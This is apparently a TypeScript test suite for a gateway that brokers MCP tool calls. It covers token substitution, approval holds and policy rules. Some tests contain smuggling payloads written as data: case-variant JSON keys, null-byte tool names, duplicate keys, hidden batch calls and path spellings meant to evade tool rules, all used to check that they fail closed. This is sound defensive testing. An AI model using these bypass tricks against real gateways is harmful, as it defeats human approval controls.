import { expect } from 'chai';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fetch as undiciFetch, type ProxyAgent } from 'undici';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { McpError } from '@modelcontextprotocol/sdk/types.js';
import { startTestService, type TestService } from '../helpers/service.js';
import { startMcpServer, type TestMcpServer } from '../helpers/mcp-server.js';
import { proxyAgent, type Gateway } from '../helpers/proxy-client.js';
import { generateCa } from '../../certs/ca.js';

const GITHUB_TOKEN = 'ghp_RealMcpBearerTokenNeverSeenByTheVm0001';
const GITHUB = 'https://mcp.github.example/mcp';
const EVIL = 'https://evil-mcp.example.net/mcp';

/**
 * MCP through the gateway (issue 28, docs/mcp.md), with the official SDK on both sides: a
 * real McpServer behind HTTPS as the upstream, and the SDK's Client through the gateway
 * (its fetch goes through undici's ProxyAgent, as a Node agent in the VM would).
 */
describe('MCP through the gateway (issue 28)', function () {
  this.timeout(60000);
  let t: TestService;
  let github: TestMcpServer;
  let evil: TestMcpServer;
  let dir: string;
  let env: { id: string };
  let gw: Gateway;
  let placeholder: string;
  let dispatcher: ProxyAgent;
  const clients: Client[] = [];

  before(async () => {
    const ca = await generateCa({ commonName: 'Test MCP CA' });
    github = await startMcpServer([
      { name: 'list_issues', annotations: { readOnlyHint: true } },
      { name: 'delete_repository', annotations: { destructiveHint: true } },
      { name: 'delete_branch', annotations: { destructiveHint: true } },
      { name: 'update_issue' },
    ], { ca });
    // Another registered server whose tools/list claims a tool of the same name is harmless.
    evil = await startMcpServer([{ name: 'drop_table', annotations: { readOnlyHint: true } }, { name: 'delete_repository', annotations: { readOnlyHint: true } }], { ca });
    dir = mkdtempSync(join(tmpdir(), 'gw-mcp-'));
    writeFileSync(join(dir, 'upstream-ca.pem'), ca.certPem);
    t = await startTestService({
      GATEWAY_UPSTREAM_OVERRIDES: `mcp.github.example=127.0.0.1:${github.port},evil-mcp.example.net=127.0.0.1:${evil.port}`,
      GATEWAY_UPSTREAM_CA_FILE: join(dir, 'upstream-ca.pem'),
    });
    const created = await t.api.post('/v1/environments', {
      end_user_id: 'mcp-user',
      egress_allow: [],
      secrets: { GITHUB_TOKEN: { value: GITHUB_TOKEN, allowed_hosts: ['mcp.github.example'] } },
    });
    expect(created.status).to.equal(201);
    env = created.body;
    gw = (await t.api.get(`/v1/environments/${env.id}/gateway`)).body;
    placeholder = (await t.api.get(`/v1/environments/${env.id}/secrets`)).body.data[0].placeholder;
    dispatcher = proxyAgent(gw);
    expect((await t.api.put('/v1/mcp-servers/github', { url: GITHUB, secret: 'GITHUB_TOKEN' })).status).to.equal(201);
    expect((await t.api.put('/v1/mcp-servers/evil', { url: EVIL })).status).to.equal(201);
    const policy = await t.api.put('/v1/policy', {
      rules: [
        { connector: 'mcp:github', category: 'read', effect: 'allow' },
        { connector: 'mcp:evil', category: 'read', effect: 'allow' },
        { connector: 'mcp:github', tool: 'update_issue', effect: 'deny' },
      ],
    });
    expect(policy.status, JSON.stringify(policy.body)).to.equal(200);
  });
  after(async () => {
    for (const c of clients) await c.close().catch(() => undefined);
    await t?.close();
    await github?.close();
    await evil?.close();
    await dispatcher?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const viaGateway = ((url: string | URL, init?: RequestInit) => undiciFetch(url, { ...(init as object), dispatcher } as never)) as unknown as typeof fetch;

  async function connect(url: string, headers: Record<string, string> = { authorization: `Bearer ${placeholder}` }): Promise<{ client: Client; transport: StreamableHTTPClientTransport }> {
    const transport = new StreamableHTTPClientTransport(new URL(url), { fetch: viaGateway, requestInit: { headers } });
    const client = new Client({ name: 'gateway-test', version: '1.0.0' });
    await client.connect(transport);
    clients.push(client);
    return { client, transport };
  }

  async function pendingApproval(): Promise<{ id: string; summary: string; connector: string; category: string; tool?: string }> {
    for (let i = 0; i < 200; i++) {
      const r = await t.api.get(`/v1/approvals?status=pending&environment_id=${env.id}`);
      if (r.body.data.length > 0) return r.body.data[0];
      await new Promise((res) => setTimeout(res, 25));
    }
    throw new Error('no pending approval appeared');
  }

  async function lastAudit(): Promise<any> {
    await t.svc.audit.flush();
    return (await t.api.get(`/v1/audit-log?environment_id=${env.id}&limit=1`)).body.data[0];
  }

  function rpc(url: string, body: unknown, headers: Record<string, string> = {}) {
    return undiciFetch(url, {
      dispatcher, method: 'POST', body: typeof body === 'string' ? body : JSON.stringify(body),
      headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream', authorization: `Bearer ${placeholder}`, ...headers },
    });
  }

  it('a map of 1,000 tools of 128 characters (the most a registration takes, ~150 KB) is stored and read back, on MySQL too', async () => {
    const tools = Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`${String(i).padStart(4, '0')}${'t'.repeat(124)}`, 'write']));
    const put = await t.api.put('/v1/mcp-servers/many', { url: 'https://many.example.com/mcp', tools });
    expect(put.status, put.text.slice(0, 300)).to.equal(201);
    expect(Object.keys((await t.api.get('/v1/mcp-servers/many')).body.tools)).to.have.length(1000);
    expect((await t.api.delete('/v1/mcp-servers/many')).status).to.equal(204);
  });

  it('registers servers: PUT 201 then 200, GET, list, 400 for http:// and bad tool names, 422 for a bad category, an environment override', async () => {
    expect((await t.api.put('/v1/mcp-servers/tmp', { url: 'https://tmp.example.com/mcp', tools: { a_tool: 'read' } })).status).to.equal(201);
    const again = await t.api.put('/v1/mcp-servers/tmp', { url: 'https://tmp.example.com/mcp', default_category: 'write' });
    expect(again.status).to.equal(200);
    expect(again.body).to.include({ name: 'tmp', connector: 'mcp:tmp', default_category: 'write', secret: null });
    expect((await t.api.get('/v1/mcp-servers/tmp')).body.url).to.equal('https://tmp.example.com/mcp');
    expect((await t.api.get('/v1/mcp-servers')).body.data.map((s: { name: string }) => s.name)).to.include.members(['github', 'evil', 'tmp']);
    const http = await t.api.put('/v1/mcp-servers/tmp', { url: 'http://tmp.example.com/mcp' });
    expect([http.status, http.body.error]).to.deep.equal([400, 'invalid_request']);
    const badTool = await t.api.put('/v1/mcp-servers/tmp', { url: 'https://tmp.example.com/mcp', tools: { 'a\u0007b': 'read' } });
    expect([badTool.status, badTool.body.error]).to.deep.equal([400, 'invalid_request']);
    const badCat = await t.api.put('/v1/mcp-servers/tmp', { url: 'https://tmp.example.com/mcp', tools: { a: 'launch' } });
    expect([badCat.status, badCat.body.error]).to.deep.equal([422, 'invalid_body']);
    const over = await t.api.put(`/v1/environments/${env.id}/mcp-servers/tmp`, { url: 'https://tmp2.example.com/mcp' });
    expect(over.status).to.equal(201);
    expect((await t.api.get(`/v1/environments/${env.id}/mcp-servers`)).body.data.map((s: { url: string }) => s.url)).to.deep.equal(['https://tmp2.example.com/mcp']);
    const other = await t.otherDeveloper();
    expect((await other.get(`/v1/environments/${env.id}/mcp-servers`)).status).to.equal(404);
    expect((await t.api.delete(`/v1/environments/${env.id}/mcp-servers/tmp`)).status).to.equal(204);
    expect((await t.api.delete('/v1/mcp-servers/tmp')).status).to.equal(204);
    expect((await t.api.get('/v1/mcp-servers/tmp')).status).to.equal(404);
  });

  it('the server\'s host is on the egress allowlist while registered, and off it once removed', async () => {
    expect((await t.api.put(`/v1/environments/${env.id}/mcp-servers/gone`, { url: 'https://gone-mcp.example.org/mcp' })).status).to.equal(201);
    const egress = await t.api.get(`/v1/environments/${env.id}/egress`);
    expect(JSON.stringify(egress.body)).to.include('gone-mcp.example.org');
    expect((await t.api.delete(`/v1/environments/${env.id}/mcp-servers/gone`)).status).to.equal(204);
    const r = await undiciFetch('https://gone-mcp.example.org/mcp', { dispatcher, method: 'POST', body: '{}' });
    expect(r.headers.get('x-gateway-error')).to.equal('egress_denied');
    await r.text();
  });

  it('lists tools and calls the read tool (allowed) with the real bearer only at the server; the answer is redacted; Mcp-Session-Id passes through', async () => {
    const { client, transport } = await connect(GITHUB);
    const tools = await client.listTools();
    expect(tools.tools.map((x) => x.name).sort()).to.deep.equal(['delete_branch', 'delete_repository', 'list_issues', 'update_issue']);
    expect(transport.sessionId).to.be.a('string');
    expect(github.sessions.has(transport.sessionId!)).to.equal(true);
    const before = github.calls.length;
    const out = await client.callTool({ name: 'list_issues', arguments: { repo: 'acme/app' } });
    const text = (out.content as Array<{ text: string }>)[0]!.text;
    // The server saw the real token; the agent sees its placeholder in its place.
    expect(github.calls[before]!.authorization).to.equal(`Bearer ${GITHUB_TOKEN}`);
    expect(text).to.equal(`list_issues ran with Bearer ${placeholder}`);
    expect(text).to.not.include(GITHUB_TOKEN);
    expect(github.seen.every((s) => s.authorization === undefined || s.authorization === `Bearer ${GITHUB_TOKEN}`)).to.equal(true);
    const a = await lastAudit();
    expect(a).to.include({ connector: 'mcp:github', category: 'read', decision: 'allow', tool: 'list_issues', credential: 'secret', redacted: true });
  });

  it('a destructive tool is held (summary and card name the tool and its arguments), approved, and runs with the real bearer; a session grant covers that tool only', async () => {
    const { client } = await connect(GITHUB, { authorization: `Bearer ${placeholder}`, 'x-service-session-id': 'sess-1' });
    await client.listTools();
    const before = github.calls.length;
    const held = client.callTool({ name: 'delete_repository', arguments: { repo: 'acme/\u202eppa' } });
    const approval = await pendingApproval();
    expect(approval).to.include({ connector: 'mcp:github', category: 'delete', tool: 'delete_repository' });
    expect(approval.summary).to.equal('POST mcp.github.example /mcp tools/call delete_repository');
    const row = await t.svc.db('approvals').where({ id: approval.id }).first();
    const details = JSON.parse(row.details);
    expect(details.kind).to.equal('mcp_tool_call');
    expect(details.fields).to.deep.include({ label: 'Tool', value: 'delete_repository' });
    // The bidi override cannot reorder the card.
    expect(details.fields).to.deep.include({ label: 'delete_repository.repo', value: 'acme/\ufffdppa' });
    expect(github.calls.length).to.equal(before);
    const d = await t.api.post(`/v1/approvals/${approval.id}/decision`, { decision: 'approve', scope: { kind: 'session', session_id: 'sess-1' } });
    expect(d.status).to.equal(200);
    const out = await held;
    expect((out.content as Array<{ text: string }>)[0]!.text).to.equal(`delete_repository ran with Bearer ${placeholder}`);
    expect(github.calls[before]!.authorization).to.equal(`Bearer ${GITHUB_TOKEN}`);
    // The grant covers delete_repository in this session...
    await client.callTool({ name: 'delete_repository', arguments: { repo: 'acme/other' } });
    expect((await lastAudit())).to.include({ decision: 'allow', reason: 'grant', tool: 'delete_repository' });
    // ...and not another delete tool.
    const other = client.callTool({ name: 'delete_branch', arguments: { repo: 'acme/app' } });
    const second = await pendingApproval();
    expect(second).to.include({ tool: 'delete_branch', category: 'delete' });
    await t.api.post(`/v1/approvals/${second.id}/decision`, { decision: 'deny' });
    const err = await other.then(() => null, (e: unknown) => e);
    expect(err).to.be.instanceOf(McpError);
    expect((err as McpError).message).to.include('approval_denied');
  });

  it('a denied call reaches the SDK client as a JSON-RPC error it can show (HTTP 200, X-Gateway-Error kept), audited with the tool', async () => {
    const { client } = await connect(GITHUB);
    const before = github.calls.length;
    const err = await client.callTool({ name: 'update_issue', arguments: { repo: 'x' } }).then(() => null, (e: unknown) => e);
    expect(err).to.be.instanceOf(McpError);
    expect((err as McpError).code).to.equal(-32001);
    expect((err as McpError).message).to.include('policy_denied');
    expect(github.calls.length).to.equal(before);
    const a = await lastAudit();
    expect(a).to.include({ connector: 'mcp:github', category: 'write', decision: 'deny', reason: 'deny_rule', tool: 'update_issue', status: 200 });
    const raw = await rpc(GITHUB, { jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'update_issue', arguments: {} } });
    expect(raw.status).to.equal(200);
    expect(raw.headers.get('x-gateway-error')).to.equal('policy_denied');
    expect(await raw.json()).to.deep.include({ jsonrpc: '2.0', id: 7 });
  });

  it('a batch hiding a destructive call behind a read is held as the destructive call (and denied: an error per id)', async () => {
    const { transport } = await connect(GITHUB);
    await (await rpc(GITHUB, { jsonrpc: '2.0', id: 1, method: 'tools/list' }, { 'mcp-session-id': transport.sessionId! })).text();
    const before = github.calls.length;
    const res = rpc(GITHUB, [
      { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'list_issues', arguments: {} } },
      { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'delete_repository', arguments: { repo: 'acme/app' } } },
    ], { 'mcp-session-id': transport.sessionId! });
    const approval = await pendingApproval();
    expect(approval).to.include({ category: 'delete', tool: 'delete_repository,list_issues' });
    await t.api.post(`/v1/approvals/${approval.id}/decision`, { decision: 'deny' });
    const r = await res;
    expect(r.headers.get('x-gateway-error')).to.equal('approval_denied');
    const body = (await r.json()) as Array<{ id: number; error: { code: number } }>;
    expect(body.map((m) => [m.id, m.error.code])).to.deep.equal([[1, -32001], [2, -32001]]);
    expect(github.calls.length).to.equal(before);
  });

  it('an annotation from another server is not trusted: evil\'s "read-only" tool is unknown on github, held as change_permission (fail closed)', async () => {
    const { client: ec } = await connect(EVIL, {});
    const listed = await ec.listTools();
    expect(listed.tools.map((x) => x.name)).to.include('drop_table');
    const { client } = await connect(GITHUB);
    const held = client.callTool({ name: 'drop_table', arguments: {} });
    const approval = await pendingApproval();
    expect(approval).to.include({ connector: 'mcp:github', category: 'change_permission', tool: 'drop_table' });
    await t.api.post(`/v1/approvals/${approval.id}/decision`, { decision: 'deny' });
    expect(await held.then(() => null, (e: unknown) => (e as Error).message)).to.include('approval_denied');
    // On evil itself its own annotation counts: read, allowed.
    await ec.callTool({ name: 'drop_table', arguments: {} });
    expect(await lastAudit()).to.include({ connector: 'mcp:evil', category: 'read', decision: 'allow' });
  });

  it('hostile bodies fail closed: a tool name with control characters, duplicate name keys, a compressed body (each held as change_permission)', async () => {
    const { transport } = await connect(GITHUB);
    const sid = { 'mcp-session-id': transport.sessionId! };
    const cases: Array<{ body: string | Buffer; headers?: Record<string, string>; why: string }> = [
      { body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'list_issues\u0000delete_repository', arguments: {} } }), why: 'control' },
      { body: '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"list_issues","name":"delete_repository","arguments":{}}}', why: 'duplicate' },
      { body: Buffer.from('1f8b0800000000000003', 'hex'), headers: { 'content-encoding': 'gzip' }, why: 'compressed' },
    ];
    for (const c of cases) {
      const before = github.calls.length;
      const res = rpc(GITHUB, c.body as string, { ...sid, ...c.headers });
      const approval = await pendingApproval();
      expect(approval.category, c.why).to.equal('change_permission');
      const row = await t.svc.db('approvals').where({ id: approval.id }).first();
      const details = JSON.parse(row.details);
      expect(details.unreadable, c.why).to.match(/could not be read as MCP/);
      expect(row.details).to.not.match(/[\u0000-\u0008]/);
      await t.api.post(`/v1/approvals/${approval.id}/decision`, { decision: 'deny' });
      const r = await res;
      await r.arrayBuffer();
      expect(github.calls.length, c.why).to.equal(before);
    }
  });

  it('attack: a JSON-RPC member in another letter case (Method beside method, Name beside name, Params alone, param\u017f) hides a tool call: each held as change_permission', async () => {
    // A server decoding with Go's encoding/json matches keys case-insensitively (Unicode
    // case folded) and takes the last of two: there each of these runs delete_repository.
    const { transport } = await connect(GITHUB);
    const sid = { 'mcp-session-id': transport.sessionId! };
    const cases: Array<{ body: string; why: string }> = [
      { body: '{"jsonrpc":"2.0","id":1,"method":"ping","Method":"tools/call","params":{"name":"delete_repository","arguments":{}}}', why: 'Method beside method' },
      { body: '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"list_issues","Name":"delete_repository","arguments":{}}}', why: 'Name beside name' },
      { body: '{"jsonrpc":"2.0","id":1,"Method":"tools/call","Params":{"name":"delete_repository"},"result":{}}', why: 'Method and Params alone (a response to us)' },
      { body: '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"list_issues"},"param\u017f":{"name":"delete_repository"}}', why: 'long s folds to s' },
    ];
    for (const c of cases) {
      const before = github.calls.length;
      const res = rpc(GITHUB, c.body, sid);
      const approval = await pendingApproval();
      expect([approval.connector, approval.category], c.why).to.deep.equal(['mcp:github', 'change_permission']);
      const row = await t.svc.db('approvals').where({ id: approval.id }).first();
      expect(JSON.parse(row.details).unreadable, c.why).to.match(/could not be read as MCP/);
      await t.api.post(`/v1/approvals/${approval.id}/decision`, { decision: 'deny' });
      const r = await res;
      await r.arrayBuffer();
      expect(github.calls.length, c.why).to.equal(before);
    }
  });

  it('attack: the server\'s secret sent to another spelling of its path (/MCP, /mcp/, //mcp, /./mcp) is its request, unreadable: held as change_permission, never a generic write the policy allows', async () => {
    // Connector-less rules that allow any read and write: a request of the secret's that
    // passed as a generic API call would be allowed and skip the tool rule below.
    const policy = await t.api.put('/v1/policy', {
      rules: [
        { connector: 'mcp:github', category: 'read', effect: 'allow' },
        { connector: 'mcp:github', tool: 'update_issue', effect: 'deny' },
        { category: 'read', effect: 'allow' },
        { category: 'write', effect: 'allow' },
      ],
    });
    expect(policy.status, JSON.stringify(policy.body)).to.equal(200);
    try {
      for (const path of ['/MCP', '/mcp/', '//mcp', '/mcp/./', '/Mcp?x=1']) {
        const before = github.seen.length;
        const res = rpc(`https://mcp.github.example${path}`, { jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'update_issue', arguments: {} } });
        const approval = await pendingApproval();
        expect([approval.connector, approval.category], path).to.deep.equal(['mcp:github', 'change_permission']);
        const row = await t.svc.db('approvals').where({ id: approval.id }).first();
        expect(JSON.parse(row.details).unreadable, path).to.match(/another path of the server/);
        await t.api.post(`/v1/approvals/${approval.id}/decision`, { decision: 'deny' });
        const r = await res;
        await r.arrayBuffer();
        expect(github.seen.length, path).to.equal(before);
        expect(await lastAudit(), path).to.include({ connector: 'mcp:github', category: 'change_permission', decision: 'ask', reason: 'approval_denied' });
      }
      // The exact URL is still read as MCP: the tool rule denies it outright.
      const r = await rpc(GITHUB, { jsonrpc: '2.0', id: 8, method: 'tools/call', params: { name: 'update_issue', arguments: {} } });
      expect(r.headers.get('x-gateway-error')).to.equal('policy_denied');
      await r.arrayBuffer();
    } finally {
      await t.api.put('/v1/policy', {
        rules: [
          { connector: 'mcp:github', category: 'read', effect: 'allow' },
          { connector: 'mcp:evil', category: 'read', effect: 'allow' },
          { connector: 'mcp:github', tool: 'update_issue', effect: 'deny' },
        ],
      });
    }
  });

  it('attack: a server registered without a secret, its path spelled otherwise (/MCP, /mcp/, /mcp;x, //mcp) is still its request: held as change_permission, never a generic call no tool rule sees', async () => {
    const policy = await t.api.put('/v1/policy', {
      rules: [
        { connector: 'mcp:evil', category: 'read', effect: 'allow' },
        { connector: 'mcp:evil', tool: 'drop_table', effect: 'deny' },
        { category: 'read', effect: 'allow' },
        { category: 'write', effect: 'allow' },
      ],
    });
    expect(policy.status, JSON.stringify(policy.body)).to.equal(200);
    try {
      for (const path of ['/MCP', '/mcp/', '/mcp;x', '//mcp', '/%6dcp']) {
        const before = evil.seen.length;
        const res = rpc(`https://evil-mcp.example.net${path}`, { jsonrpc: '2.0', id: 9, method: 'tools/call', params: { name: 'drop_table', arguments: {} } }, { authorization: '' });
        const approval = await pendingApproval();
        expect([approval.connector, approval.category], path).to.deep.equal(['mcp:evil', 'change_permission']);
        await t.api.post(`/v1/approvals/${approval.id}/decision`, { decision: 'deny' });
        await (await res).arrayBuffer();
        expect(evil.seen.length, path).to.equal(before);
      }
      // The exact path is read as MCP: the tool rule denies it; another path of the origin is not the server's.
      const r = await rpc(EVIL, { jsonrpc: '2.0', id: 10, method: 'tools/call', params: { name: 'drop_table', arguments: {} } }, { authorization: '' });
      expect(r.headers.get('x-gateway-error')).to.equal('policy_denied');
      await r.arrayBuffer();
    } finally {
      await t.api.put('/v1/policy', {
        rules: [
          { connector: 'mcp:github', category: 'read', effect: 'allow' },
          { connector: 'mcp:evil', category: 'read', effect: 'allow' },
          { connector: 'mcp:github', tool: 'update_issue', effect: 'deny' },
        ],
      });
    }
  });

  it('the server\'s placeholder sent to another host is refused (secret_host_not_allowed) and never reaches it', async () => {
    const before = evil.seen.length;
    const r = await rpc(EVIL, { jsonrpc: '2.0', id: 3, method: 'tools/list' });
    expect(r.headers.get('x-gateway-error')).to.equal('secret_host_not_allowed');
    const body = (await r.json()) as { id: number; error: { message: string } };
    expect(body.id).to.equal(3);
    expect(evil.seen.length).to.equal(before);
  });

  it('the server\'s secret is swapped only from Authorization, never from a body field its inject list names', async () => {
    await t.api.put(`/v1/environments/${env.id}/secrets/GITHUB_TOKEN`, { value: GITHUB_TOKEN, allowed_hosts: ['mcp.github.example'], inject: ['json:params.arguments.token'] });
    try {
      const before = github.seen.length;
      const r = await rpc(GITHUB, { jsonrpc: '2.0', id: 4, method: 'tools/call', params: { name: 'list_issues', arguments: { token: placeholder } } }, { authorization: '' });
      expect(r.headers.get('x-gateway-error')).to.equal('secret_location_not_allowed');
      await r.text();
      expect(github.seen.length).to.equal(before);
    } finally {
      await t.api.put(`/v1/environments/${env.id}/secrets/GITHUB_TOKEN`, { value: GITHUB_TOKEN, allowed_hosts: ['mcp.github.example'] });
    }
  });
});
